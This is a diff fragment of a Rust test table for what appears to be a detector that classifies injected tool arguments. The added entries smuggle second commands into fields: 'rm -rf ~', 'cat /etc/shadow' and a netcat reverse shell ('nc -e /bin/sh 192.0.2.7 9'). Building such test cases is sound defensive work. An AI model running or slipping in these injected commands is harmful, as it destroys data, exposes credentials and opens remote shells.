@@ -128,6 +128,19 @@ fn what_looks_like_a_command_is_one_under_any_name() {
             "/home/u/.ssh/id_rsa",
             "credential_file",
         ),
+        ("ping", "host", "192.0.2.7; rm -rf ~", "command_delete_root"),
+        (
+            "convert",
+            "file",
+            "a.gif && cat /etc/shadow",
+            "credential_file",
+        ),
+        (
+            "whois",
+            "domain",
+            "x.example|nc -e /bin/sh 192.0.2.7 9",
+            "command_reverse_shell",
+        ),
         ("read_file", "path", "%2Fetc%2Fshadow", "credential_file"),
         (
             "read_resource",
